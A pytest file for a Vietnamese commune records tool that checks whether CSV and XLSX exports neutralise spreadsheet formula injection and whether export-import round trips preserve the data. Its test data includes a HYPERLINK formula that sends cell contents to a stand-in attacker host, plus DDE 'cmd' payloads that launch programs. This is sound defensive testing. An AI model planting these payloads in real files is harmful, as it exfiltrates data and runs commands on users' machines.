"""Issue 9, item 8: names that are formulas never run in a spreadsheet, and survive round trips.

The attack: officials named ``=HYPERLINK(…)``, ``+cmd|…``, ``-2+3``, ``@SUM(…)`` (typed,
imported or synced in) were exported verbatim to CSV, where Excel runs them; and a cell
made safe with a leading tab lost the tab on import, so the next export was live again.
Now a CSV text cell that would start a formula gets OWASP's single quote, XLSX text cells
are always string cells, and import takes the quote off, so export → import changes
nothing. Real files, the real ``commune-it`` command.
"""

from __future__ import annotations

import csv
import subprocess
import sys
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from app.models import Course, CourseSession, Equipment, Staff, records
from app.models.store import Store
from tests.helpers import DB_NAME, MUONG_PHANG

COMMUNE_IT = Path(sys.executable).with_name("commune-it")

HYPERLINK = '=HYPERLINK("http://ke-gian.example/?d="&A1,"Bấm vào đây")'
CMD = "+cmd|' /C calc'!A0"
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
ATTACKS = {  # as an attacker's file gives them → as they are stored
    HYPERLINK: HYPERLINK,
    CMD: CMD,
    "-2+3": "-2+3",
    SUM: SUM,
    "\t=1+2": "=1+2",  # a tab that made it safe is lost to the store's trimming…
    "'=3+4": "=3+4",  # …and a cell quoted the OWASP way reads as the text it stands for
}
PHONE = "+84912345678"  # a phone number is text too: it starts with a plus


def commune_it(data_dir: Path, *args: str | Path) -> subprocess.CompletedProcess[str]:
    result = subprocess.run([str(COMMUNE_IT), "--data-dir", str(data_dir), *map(str, args)],
                            capture_output=True, text=True, timeout=120)
    assert "Traceback" not in result.stderr
    return result


def ok(data_dir: Path, *args: str | Path) -> str:
    result = commune_it(data_dir, *args)
    assert result.returncode == 0, result.stderr
    return result.stdout


def write_csv(path: Path, rows: list[list[str]]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(rows)
    return path


def raw_cells(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def stored(data_dir: Path) -> dict[str, list[tuple]]:
    store = Store(data_dir / DB_NAME)
    try:
        with store.sessions() as s:
            return {
                "staff": sorted(s.execute(select(
                    Staff.id, Staff.full_name, Staff.position, Staff.phone, Staff.hlc)).all()),
                "equipment": sorted(s.execute(select(
                    Equipment.id, Equipment.brand, Equipment.value_vnd, Equipment.hlc)).all()),
                "course": sorted(s.execute(select(Course.id, Course.title, Course.hlc)).all()),
            }
    finally:
        store.close()


@pytest.fixture
def data_dir(tmp_path: Path) -> Path:
    """A commune laptop whose officials were imported from an attacker's file."""
    folder = tmp_path / "laptop"
    ok(folder, "setup", "--commune", MUONG_PHANG, "--device-name", "Máy xã")
    rows = [["full_name", "position", "phone"]]
    rows += [[attack, "-5", PHONE] for attack in ATTACKS]
    ok(folder, "import", "staff", write_csv(tmp_path / "ke-gian.csv", rows))
    ok(folder, "import", "equipment", write_csv(tmp_path / "tb.csv", [
        ["category", "brand", "value_vnd"], ["laptop", "=1+1", "15000000"]]))
    return folder


def test_the_import_stores_the_text_a_cell_stands_for(data_dir: Path) -> None:
    names = {row[1] for row in stored(data_dir)["staff"]}
    assert names == set(ATTACKS.values())


def test_csv_export_neutralises_text_cells_and_leaves_numbers_alone(data_dir: Path,
                                                                    tmp_path: Path) -> None:
    staff_file, equipment_file = tmp_path / "can-bo.csv", tmp_path / "thiet-bi.csv"
    ok(data_dir, "export", "staff", staff_file)
    ok(data_dir, "export", "equipment", equipment_file)
    rows = raw_cells(staff_file)
    assert sorted(row["full_name"] for row in rows) == sorted(
        "'" + name for name in ATTACKS.values())
    assert {row["position"] for row in rows} == {"'-5"}
    assert {row["phone"] for row in rows} == {"'" + PHONE}
    for row in rows:  # nothing a spreadsheet would run, in any column
        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row.values())
    [item] = raw_cells(equipment_file)
    assert (item["brand"], item["value_vnd"], item["lan"]) == ("'=1+1", "15000000", "no")


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_export_then_import_changes_nothing(data_dir: Path, tmp_path: Path, suffix: str
                                            ) -> None:
    before = stored(data_dir)
    for kind in ("staff", "equipment"):
        path = tmp_path / f"{kind}.{suffix}"
        ok(data_dir, "export", kind, path)
        out = ok(data_dir, "import", kind, path)
        assert " 0 mới, 0 cập nhật," in f" {out.splitlines()[-1].split(': ', 1)[1]}", out
    assert stored(data_dir) == before


def test_xlsx_cells_are_strings_never_formulas(data_dir: Path, tmp_path: Path) -> None:
    store = Store(data_dir / DB_NAME)
    with store.sessions.begin() as s:
        records.create(s, Staff, commune_code=MUONG_PHANG, full_name="#N/A")
    store.close()
    path = tmp_path / "can-bo.xlsx"
    ok(data_dir, "export", "staff", path)
    sheet = load_workbook(path).worksheets[0]  # the full reader: it keeps formulas
    names = {cell.value: cell.data_type for cell in sheet["B"][1:]}
    assert names == {**{name: "s" for name in ATTACKS.values()}, "#N/A": "s"}
    assert {c.data_type for c in sheet["I"][1:] if c.value is not None} == {"s"}  # phones
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type in ("f", "e")]


def test_a_stored_text_that_starts_with_a_quote_survives_both_formats(
        data_dir: Path, tmp_path: Path) -> None:
    """A quote put on by export is taken off by import, and no other: texts that already
    start with a quote are escaped once more, so they come back as they were."""
    texts = ["'=already quoted", "''", "'-", "'plain"]
    store = Store(data_dir / DB_NAME)
    with store.sessions.begin() as s:
        for text in texts:
            records.create(s, Staff, commune_code=MUONG_PHANG, full_name="Lò Văn Trích",
                           position=text)
    store.close()
    before = stored(data_dir)
    ok(data_dir, "export", "staff", tmp_path / "a.csv")
    quoted = {row["position"] for row in raw_cells(tmp_path / "a.csv")} - {"'-5"}
    assert quoted == {"''=already quoted", "'''", "''-", "'plain"}
    for suffix in ("csv", "xlsx"):
        path = tmp_path / f"b.{suffix}"
        ok(data_dir, "export", "staff", path)
        ok(data_dir, "import", "staff", path)
        assert stored(data_dir) == before, suffix


def test_a_negative_number_stays_a_number_and_is_refused_where_amounts_are(
        data_dir: Path, tmp_path: Path) -> None:
    refused = commune_it(data_dir, "import", "equipment", write_csv(
        tmp_path / "am.csv", [["category", "value_vnd"], ["printer", "-5"]]))
    assert refused.returncode == 2
    assert "Dòng 2, cột value_vnd: Số tiền “-5” không được âm." in refused.stderr


def test_training_titles_are_neutralised_and_read_back(data_dir: Path, tmp_path: Path) -> None:
    store = Store(data_dir / DB_NAME)
    with store.sessions.begin() as s:
        course = records.create(s, Course, commune_code=MUONG_PHANG, title=HYPERLINK,
                                start_date=date(2026, 3, 2), place="@Hội trường")
        sitting = records.create(s, CourseSession, course_id=course.id,
                                 session_date=date(2026, 3, 2), partition=course.partition)
        s.flush()
        person = s.scalars(select(Staff).where(Staff.full_name == CMD)).one()
        records.mark_attendance(s, sitting, records.enroll_staff(s, course, person), "present")
    store.close()
    before = stored(data_dir)
    path = tmp_path / "dao-tao.csv"
    ok(data_dir, "export", "training", path)
    [row] = raw_cells(path)
    assert (row["course_title"], row["staff_name"], row["course_place"]) == (
        "'" + HYPERLINK, "'" + CMD, "'@Hội trường")
    assert "0 mới, 0 cập nhật, 1 không đổi" in ok(data_dir, "import", "attendance", path)
    assert stored(data_dir) == before
